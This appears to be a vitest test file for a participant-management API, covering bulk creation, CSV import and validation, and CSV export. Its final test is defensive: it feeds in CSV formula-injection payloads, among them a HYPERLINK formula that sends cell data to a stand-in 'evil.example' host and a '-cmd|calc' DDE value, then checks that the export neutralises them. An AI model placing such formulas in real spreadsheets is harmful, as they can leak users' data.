import { describe, expect, it } from 'vitest';
import { forEachDatabase } from './helpers/databases.js';
import { useTestApp, type JsonResponse, type TestApp } from './helpers/test-app.js';

const BASE = '/api/v1/participants';
const NO_SUCH_ID = '0190b6a0-0000-7000-8000-000000000000';

async function createTemplate(t: TestApp, name: string): Promise<string> {
  const res = await t.request('POST', '/api/v1/evaluation-templates', { body: { template_name: name } });
  expect(res.statusCode).toBe(201);
  return String(res.body.data.id);
}

async function countParticipants(t: TestApp): Promise<number> {
  const row = await t.db.handle.db
    .selectFrom('participants')
    .select((eb) => eb.fn.countAll<number>().as('n'))
    .where('account_id', '=', t.account.id)
    .executeTakeFirstOrThrow();
  return Number(row.n);
}

async function countEvents(t: TestApp): Promise<number> {
  const row = await t.db.handle.db
    .selectFrom('events')
    .select((eb) => eb.fn.countAll<number>().as('n'))
    .where('account_id', '=', t.account.id)
    .where('type', '=', 'participant.created')
    .executeTakeFirstOrThrow();
  return Number(row.n);
}

function importCsv(t: TestApp, csv: string, query: Record<string, string> = {}): Promise<JsonResponse> {
  return t.request('POST', `${BASE}/import`, { body: csv, headers: { 'content-type': 'text/csv' }, query });
}

forEachDatabase((dialect) => {
  const t = useTestApp(dialect);

  describe('bulk', () => {
    it('creates valid items, skips duplicates (stored and in-batch), reports invalid ones, in input order, in one go', async () => {
      const a = await createTemplate(t(), 'Bulk A');
      const b = await createTemplate(t(), 'Bulk B');
      const stored = await t().request('POST', BASE, { body: { name: 'Stored', email: 'stored@example.com', evaluation_template_id: a } });
      const before = await countEvents(t());
      const res = await t().request('POST', `${BASE}/bulk`, {
        body: {
          participants: [
            { name: 'One', email: 'one@example.com', evaluation_template_id: a, tags: ['x', 'X', 'y'] },
            { name: 'Stored again', email: 'STORED@example.com', evaluation_template_id: a },
            { name: 'One again', email: ' one@EXAMPLE.com ', evaluation_template_id: a },
            { name: 'No email' },
            { name: 'One in B', email: 'one@example.com', evaluation_template_id: b },
            { name: 'Ghost template', email: 'ghost@example.com', evaluation_template_id: NO_SUCH_ID },
            'not an object',
            { name: 'Typo', email: 'typo@example.com', emial: 'x' },
            { name: 'Two', email: 'two@example.com' },
          ],
        },
      });
      expect(res.statusCode, JSON.stringify(res.body)).toBe(200);
      const data = res.body.data;
      expect({ created: data.created, skipped: data.skipped, failed: data.failed }).toEqual({ created: 3, skipped: 2, failed: 4 });
      expect(data.results.map((r: { index: number; status: string }) => [r.index, r.status])).toEqual([
        [0, 'created'],
        [1, 'skipped'],
        [2, 'skipped'],
        [3, 'failed'],
        [4, 'created'],
        [5, 'failed'],
        [6, 'failed'],
        [7, 'failed'],
        [8, 'created'],
      ]);
      expect(data.results[1].existing_id).toBe(stored.body.data.id);
      expect(data.results[2].existing_id).toBe(data.results[0].id);
      expect(data.results[3].issues).toEqual([expect.objectContaining({ path: 'email', code: 'required' })]);
      expect(data.results[5].issues).toEqual([expect.objectContaining({ path: 'evaluation_template_id', code: 'not_found' })]);
      expect(data.results[6].issues).toEqual([expect.objectContaining({ code: 'invalid_type' })]);
      expect(data.results[7].issues).toEqual([expect.objectContaining({ path: 'emial', code: 'unknown_field' })]);
      const one = await t().request('GET', `${BASE}/${data.results[0].id}`);
      expect(one.body.data).toMatchObject({ name: 'One', tags: ['x', 'y'], evaluation_template_id: a });
      const tagged = await t().request('GET', BASE, { query: { tag: ['x', 'y'] } });
      expect(tagged.body.data.map((p: { id: string }) => p.id)).toEqual([data.results[0].id]);
      expect((await countEvents(t())) - before).toBe(3);
    });

    it('refuses more than 500 items with 400, creating nothing; takes exactly 500', async () => {
      const items = (n: number, prefix: string) => Array.from({ length: n }, (_, i) => ({ name: `P ${i}`, email: `${prefix}${i}@example.com` }));
      const before = await countParticipants(t());
      const tooMany = await t().request('POST', `${BASE}/bulk`, { body: { participants: items(501, 'many') } });
      expect(tooMany.statusCode).toBe(400);
      expect(tooMany.body.code).toBe('batch_too_large');
      expect(await countParticipants(t())).toBe(before);
      const exactly = await t().request('POST', `${BASE}/bulk`, { body: { participants: items(500, 'five') } });
      expect(exactly.statusCode).toBe(200);
      expect(exactly.body.data.created).toBe(500);
      expect(await countParticipants(t())).toBe(before + 500);
    });

    it('takes bodies up to 5 MiB and refuses larger ones with 413', async () => {
      const metadata = (seed: number) => Object.fromEntries(Array.from({ length: 10 }, (_, k) => [`k${k}`, `${seed}`.padEnd(490, 'm')]));
      const big = Array.from({ length: 400 }, (_, i) => ({ name: `Big ${i}`, email: `big${i}@example.com`, metadata: metadata(i) }));
      const size = JSON.stringify({ participants: big }).length;
      expect(size).toBeGreaterThan(1024 * 1024);
      expect(size).toBeLessThan(5 * 1024 * 1024);
      const ok = await t().request('POST', `${BASE}/bulk`, { body: { participants: big } });
      expect(ok.statusCode).toBe(200);
      expect(ok.body.data.created).toBe(400);
      const huge = [...big, ...big, ...big].map((p, i) => ({ ...p, email: `huge${i}@example.com` }));
      const tooBig = await t().request('POST', `${BASE}/bulk`, { body: { participants: huge } });
      expect(tooBig.statusCode).toBe(413);
      expect(tooBig.body.code).toBe('payload_too_large');
    });

    it('accepts the account slug in the body; another account’s is 403; unknown top-level fields are 400', async () => {
      const ok = await t().request('POST', `${BASE}/bulk`, {
        body: { accountSlug: t().account.slug, participants: [{ name: 'Slug', email: 'slug@example.com' }] },
      });
      expect(ok.statusCode).toBe(200);
      const other = await t().createAccount(`bulk-${dialect}`);
      const mismatch = await t().request('POST', `${BASE}/bulk`, { body: { accountSlug: other.slug, participants: [] } });
      expect(mismatch.statusCode).toBe(403);
      const typo = await t().request('POST', `${BASE}/bulk`, { body: { participant: [] } });
      expect(typo.statusCode).toBe(400);
      const empty = await t().request('POST', `${BASE}/bulk`, { body: { participants: [] } });
      expect(empty.body.data).toEqual({ created: 0, skipped: 0, failed: 0, results: [] });
    });
  });

  describe('CSV import', () => {
    it('reads BOM, CRLF, quoted fields (commas, doubled quotes, line breaks), tags by ; or |, templates by id or name', async () => {
      const templateId = await createTemplate(t(), 'Data Engineer');
      const csv = [
        '\ufeffname,email,evaluation_template_id,template_name,external_id,phone,tags,resume_url,title,organization,experience_level,location',
        `"Smith, Jane",jane.csv@example.com,${templateId},,ats-1,+1 555 0100,senior;backend|remote,https://files.example.com/jane.pdf,Engineer,"Acme, Inc.",senior,"Lisbon, PT"`,
        '"Carlos ""Charlie"" Reyes",carlos.csv@example.com,,data engineer,ats-2,,q3-cohort,,,West Region,,',
        // A quoted cell may span lines; no participant field takes a line break, so the row fails.
        'Multi Line,multi.csv@example.com,,,,,,,,"West',
        'Region",,',
        '',
        'Priya Patel,priya.csv@example.com,,,,,,,New Grad,,entry,',
      ].join('\r\n');
      const res = await importCsv(t(), csv);
      expect(res.statusCode, JSON.stringify(res.body)).toBe(200);
      expect(res.body.data, JSON.stringify(res.body)).toMatchObject({ created: 3, skipped: 0, failed: 1, dry_run: false });
      const results = res.body.data.results as { index: number; line: number; status: string; id: string; issues?: unknown[] }[];
      expect(results.map((r) => [r.index, r.line, r.status])).toEqual([
        [2, 2, 'created'],
        [3, 3, 'created'],
        [4, 4, 'failed'],
        [5, 7, 'created'],
      ]);
      expect(results[2]?.issues).toEqual([expect.objectContaining({ path: 'organization', code: 'invalid_characters' })]);
      const [jane, carlos, priya] = await Promise.all(
        results.filter((r) => r.status === 'created').map(async (r) => (await t().request('GET', `${BASE}/${r.id}`)).body.data),
      );
      expect(jane).toMatchObject({
        name: 'Smith, Jane',
        evaluation_template_id: templateId,
        external_id: 'ats-1',
        phone: '+1 555 0100',
        tags: ['senior', 'backend', 'remote'],
        resume_url: 'https://files.example.com/jane.pdf',
        profile: { title: 'Engineer', organization: 'Acme, Inc.', experienceLevel: 'senior', location: 'Lisbon, PT' },
      });
      expect(carlos).toMatchObject({
        name: 'Carlos "Charlie" Reyes',
        evaluation_template_id: templateId,
        tags: ['q3-cohort'],
        profile: { organization: 'West Region' },
      });
      expect(priya).toMatchObject({ evaluation_template_id: null, profile: { title: 'New Grad', experienceLevel: 'entry' }, tags: [] });
    });

    it('reports each row like bulk: invalid, duplicate in file, duplicate stored, unknown or ambiguous template', async () => {
      await createTemplate(t(), 'Twin');
      await createTemplate(t(), 'twin');
      await t().request('POST', BASE, { body: { name: 'Already', email: 'already@example.com' } });
      const csv = [
        'name,email,template_name,evaluation_template_id,title,experience_level,tags',
        'Ok,ok.rows@example.com,,,,,',
        'Dup,OK.rows@example.com,,,,,',
        'Stored,already@example.com,,,,,',
        ',missing-name@example.com,,,,,',
        'Bad email,not-an-email,,,,,',
        'No template,nt@example.com,Nope,,,,',
        'Ambiguous,amb@example.com,TWIN,,,,',
        `Ghost id,ghost@example.com,,${NO_SUCH_ID},,,`,
        'Bad id,badid@example.com,,12345,,,',
        `Long title,long@example.com,,,${'t'.repeat(201)},,`,
        `Long tag,longtag@example.com,,,,,${'g'.repeat(65)}`,
      ].join('\n');
      const res = await importCsv(t(), csv);
      expect(res.statusCode, JSON.stringify(res.body)).toBe(200);
      const results = res.body.data.results as { index: number; status: string; existing_id?: string; issues?: { path: string; code: string }[] }[];
      expect(results.map((r) => r.status)).toEqual([
        'created',
        'skipped',
        'skipped',
        'failed',
        'failed',
        'failed',
        'failed',
        'failed',
        'failed',
        'failed',
        'failed',
      ]);
      expect(results[1]?.existing_id).toBe((results[0] as { id?: string }).id);
      expect(results[2]?.existing_id).toEqual(expect.any(String));
      const paths = results.slice(3).map((r) => r.issues?.map((i) => `${i.path}:${i.code}`));
      expect(paths).toEqual([
        ['name:required'],
        ['email:invalid_format'],
        ['template_name:not_found'],
        ['template_name:ambiguous'],
        ['evaluation_template_id:not_found'],
        ['evaluation_template_id:invalid_format'],
        ['title:too_long'],
        ['tags:too_long'],
      ]);
      expect(res.body.data).toMatchObject({ created: 1, skipped: 2, failed: 8 });
    });

    it('dry_run reports the same outcomes and writes nothing', async () => {
      const csv = 'name,email\nDry One,dry1@example.com\nDry Dup,DRY1@example.com\nDry Bad,nope\n';
      const before = await countParticipants(t());
      const eventsBefore = await countEvents(t());
      const dry = await importCsv(t(), csv, { dry_run: 'true' });
      expect(dry.statusCode).toBe(200);
      expect(dry.body.data).toMatchObject({ created: 1, skipped: 1, failed: 1, dry_run: true });
      expect(await countParticipants(t())).toBe(before);
      expect(await countEvents(t())).toBe(eventsBefore);
      const real = await importCsv(t(), csv);
      expect(real.body.data).toMatchObject({ created: 1, skipped: 1, failed: 1, dry_run: false });
      const again = await importCsv(t(), csv, { dry_run: 'true' });
      expect(again.body.data).toMatchObject({ created: 0, skipped: 2, failed: 1 });
      expect(again.body.data.results[0].existing_id).toBe(real.body.data.results[0].id);
    });

    it('refuses a malformed file with 400 naming the line, writing nothing (even rows before the fault)', async () => {
      const before = await countParticipants(t());
      const cases: [string, number][] = [
        ['name,email\nGood,good1@example.com\n"Unclosed,bad@example.com\nMore,more@example.com\n', 3],
        ['name,email\r\nGood,good2@example.com\r\nToo,many,fields@example.com\r\n', 3],
        ['name,email\nGood,good3@example.com\n"Multi\nline",ok@example.com\nFew\n', 5],
        ['name,email\nGood,good4@example.com\n"Quote"d,bad@example.com\n', 3],
      ];
      for (const [csv, line] of cases) {
        const res = await importCsv(t(), csv);
        expect(res.statusCode, csv).toBe(400);
        expect(res.body).toMatchObject({ code: 'invalid_csv', line });
        expect(res.body.error).toContain(`line ${line}`);
      }
      expect(await countParticipants(t())).toBe(before);
    });

    it('refuses bad headers, empty files and wrong content types; a header alone is fine', async () => {
      const unknown = await importCsv(t(), 'name,email,favourite_colour\nA,a@example.com,blue\n');
      expect(unknown.statusCode).toBe(400);
      expect(unknown.body.error).toContain('favourite_colour');
      const missing = await importCsv(t(), 'name,mail\nA,a@example.com\n');
      expect(missing.statusCode).toBe(400);
      expect(missing.body.error).toContain('email');
      const repeated = await importCsv(t(), 'name,email,Email\nA,a@example.com,b@example.com\n');
      expect(repeated.statusCode).toBe(400);
      const empty = await importCsv(t(), '');
      expect(empty.statusCode).toBe(400);
      expect(empty.body.code).toBe('invalid_csv');
      const headerOnly = await importCsv(t(), 'Name , EMAIL\r\n');
      expect(headerOnly.body.data).toEqual({ created: 0, skipped: 0, failed: 0, results: [], dry_run: false, columns: ['name', 'email'] });
      const json = await t().request('POST', `${BASE}/import`, { body: { name: 'x' } });
      expect(json.statusCode).toBe(415);
      const plain = await t().request('POST', `${BASE}/import`, { body: 'name,email\n', headers: { 'content-type': 'text/plain' } });
      expect(plain.statusCode).toBe(415);
    });

    it('refuses more than 50,000 rows (nothing written) and bodies over 20 MiB', async () => {
      const before = await countParticipants(t());
      const rows = Array.from({ length: 50_001 }, (_, i) => `P${i},limit${i}@example.com`);
      const tooMany = await importCsv(t(), `name,email\n${rows.join('\n')}\n`);
      expect(tooMany.statusCode).toBe(400);
      expect(tooMany.body.code).toBe('batch_too_large');
      expect(await countParticipants(t())).toBe(before);
      const tooBig = await importCsv(t(), `name,email\n${'x'.repeat(20 * 1024 * 1024)},a@example.com\n`);
      expect(tooBig.statusCode).toBe(413);
    });

    it('writes more than one chunk, with one event per created participant', async () => {
      const before = await countEvents(t());
      const rows = Array.from({ length: 1_234 }, (_, i) => `Chunk ${i},chunk${i}@example.com,chunked`);
      const res = await importCsv(t(), `name,email,tags\n${rows.join('\n')}\n`);
      expect(res.body.data).toMatchObject({ created: 1_234, skipped: 0, failed: 0 });
      expect(res.body.data.results.at(-1)).toMatchObject({ index: 1_235, line: 1_235, status: 'created' });
      expect((await countEvents(t())) - before).toBe(1_234);
      const tagged = await t().request('GET', BASE, { query: { tag: 'chunked', pageSize: 1 } });
      expect(tagged.body.meta.total).toBe(1_234);
    });

    it('puts every row in the template named in the query; unknown → 404', async () => {
      const target = await createTemplate(t(), 'Query Target');
      const res = await importCsv(t(), `name,email,template_name\nQ,q.target@example.com,Somewhere Else\n`, { template_name: 'query target' });
      expect(res.body.data.created).toBe(1);
      const read = await t().request('GET', `${BASE}/${res.body.data.results[0].id}`);
      expect(read.body.data.evaluation_template_id).toBe(target);
      expect((await importCsv(t(), 'name,email\n', { evaluation_template_id: NO_SUCH_ID })).statusCode).toBe(404);
      expect((await importCsv(t(), 'name,email\n', { template_name: 'No such template' })).statusCode).toBe(404);
    });
  });

  describe('CSV export', () => {
    it('streams the filtered list as CSV, newest first, over several pages', async () => {
      const rows = Array.from({ length: 2_100 }, (_, i) => `Exported ${i},exported${i}@example.com,export-many`);
      expect((await importCsv(t(), `name,email,tags\n${rows.join('\n')}\n`)).body.data.created).toBe(2_100);
      const res = await t().request('GET', `${BASE}/export`, { query: { tag: 'export-many' } });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toContain('participants.csv');
      const lines = String(res.body).trimEnd().split('\r\n');
      expect(lines[0]).toBe(
        'name,email,evaluation_template_id,template_name,external_id,phone,tags,resume_url,title,organization,experience_level,location,status,id,created_at,updated_at',
      );
      expect(lines).toHaveLength(2_101);
      expect(lines[1]).toMatch(/^Exported 2099,/);
      expect(lines[2_100]).toMatch(/^Exported 0,/);
      const none = await t().request('GET', `${BASE}/export`, { query: { tag: 'no-one' } });
      expect(String(none.body).trimEnd().split('\r\n')).toHaveLength(1);
    });

    it('round-trips: export one template, import into a new one, the same people come back', async () => {
      const source = await createTemplate(t(), 'Round Trip Source');
      const people = [
        {
          name: 'Zoë "Z" Ångström, PhD',
          email: 'Zoe@Example.com',
          external_id: 'ats;1|x',
          phone: '+46 8 123 456',
          tags: ['Nordic', 'remote'],
          resume_url: 'https://files.example.com/zoe.pdf?v=1&x=2',
          profile: { title: 'Lead, Data', organization: 'Ångström AB', experienceLevel: 'senior', location: 'Stockholm' },
          status: 'archived',
        },
        { name: 'Plain Person', email: 'plain@example.com' },
        { name: '=SUM(A1:A2)', email: 'formula@example.com', tags: ['x'], profile: { title: "O'Brien" } },
      ];
      for (const body of people) {
        const res = await t().request('POST', BASE, { body: { ...body, evaluation_template_id: source } });
        expect(res.statusCode, JSON.stringify(res.body)).toBe(201);
      }
      const exported = await t().request('GET', `${BASE}/export`, { query: { evaluation_template_id: source } });
      const target = await createTemplate(t(), 'Round Trip Target');
      const imported = await importCsv(t(), String(exported.body), { evaluation_template_id: target });
      expect(imported.body.data).toMatchObject({ created: 3, skipped: 0, failed: 0 });

      const strip = (p: Record<string, unknown>) => {
        const { id: _id, created_at: _c, updated_at: _u, evaluation_template_id: _t, resume: _r, ...rest } = p;
        return rest;
      };
      const list = async (templateId: string) =>
        ((await t().request('GET', BASE, { query: { evaluation_template_id: templateId } })).body.data as Record<string, unknown>[])
          .map(strip)
          .sort((x, y) => String(x['email']).localeCompare(String(y['email'])));
      expect(await list(target)).toEqual(await list(source));
      // Importing the same file again into the target adds no one.
      const again = await importCsv(t(), String(exported.body), { evaluation_template_id: target });
      expect(again.body.data).toMatchObject({ created: 0, skipped: 3 });
    });

    it('writes cells a spreadsheet would run as formulas as text (a leading quote), and imports them back exactly', async () => {
      const source = await createTemplate(t(), '=Formula Source');
      const people = [
        { name: '=HYPERLINK("https://evil.example/?"&A1,"Click")', email: 'eq@example.com', external_id: '@SUM(1+1)', tags: ['-dash', '+plus'] },
        { name: "'=Already quoted", email: 'quoted@example.com', phone: '+1 555 0100', profile: { title: "''+Twice", location: '-cmd|calc' } },
        { name: "'Just an apostrophe", email: 'apostrophe@example.com', profile: { organization: '@company', experienceLevel: '=1' } },
      ];
      for (const body of people) {
        const res = await t().request('POST', BASE, { body: { ...body, evaluation_template_id: source } });
        expect(res.statusCode, JSON.stringify(res.body)).toBe(201);
      }
      const exported = await t().request('GET', `${BASE}/export`, { query: { evaluation_template_id: source } });
      const csv = String(exported.body);
      // No cell starts with a formula character: csv-stringify quotes some cells, so look past a quote.
      for (const line of csv.trimEnd().split('\r\n').slice(1)) {
        for (const cell of line.match(/("([^"]|"")*"|[^,]*)/g) ?? []) {
          expect(cell.replace(/^"/, ''), line).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
      expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
      expect(csv).toContain("''=Already quoted");
      expect(csv).toContain("'=Formula Source");
      expect(csv).toContain("'Just an apostrophe,");

      const target = await createTemplate(t(), 'Formula Target');
      const imported = await importCsv(t(), csv, { evaluation_template_id: target });
      expect(imported.body.data).toMatchObject({ created: 3, failed: 0 });
      const list = async (templateId: string) =>
        ((await t().request('GET', BASE, { query: { evaluation_template_id: templateId } })).body.data as Record<string, unknown>[])
          .map(({ id: _id, created_at: _c, updated_at: _u, evaluation_template_id: _t, ...rest }) => rest)
          .sort((x, y) => String(x['email']).localeCompare(String(y['email'])));
      expect(await list(target)).toEqual(await list(source));
      // The template_name column is read back the same way: "'=Formula Source" names "=Formula Source".
      const byName = await importCsv(t(), "name,email,template_name\r\nNew Person,new-formula@example.com,'=Formula Source\r\n");
      expect(byName.body.data.results[0]).toMatchObject({ status: 'created' });
      const created = await t().request('GET', `${BASE}/${String(byName.body.data.results[0].id)}`);
      expect(created.body.data.evaluation_template_id).toBe(source);
    });
  });
});
